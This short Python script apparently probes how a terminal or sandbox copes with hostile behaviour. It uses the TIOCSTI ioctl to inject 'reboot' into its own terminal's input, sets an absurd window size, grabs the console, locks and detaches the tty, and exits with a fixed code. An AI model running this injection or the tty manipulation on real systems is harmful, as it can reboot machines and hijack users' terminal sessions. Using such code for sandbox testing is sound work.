# Types into its own terminal as if a person had, takes it away from itself, and makes it a thousand columns wide.
import fcntl
import os
import signal
import struct
import termios

signal.signal(signal.SIGHUP, signal.SIG_IGN)

typed = 0
for letter in b"reboot\n":
    try:
        fcntl.ioctl(0, termios.TIOCSTI, bytes([letter]))
        typed += 1
    except OSError:
        pass
fcntl.ioctl(0, termios.TIOCSWINSZ, struct.pack("HHHH", 60000, 60000, 0, 0))
for request in (termios.TIOCCONS, termios.TIOCEXCL, 0x541C):
    try:
        fcntl.ioctl(0, request, b"\x03")
    except OSError:
        pass
try:
    fcntl.ioctl(0, termios.TIOCNOTTY)
except OSError:
    pass
os.setpgid(0, 0) if os.getpgrp() != os.getpid() else None
print("typed", typed in (0, 7), flush=True)
raise SystemExit(4)
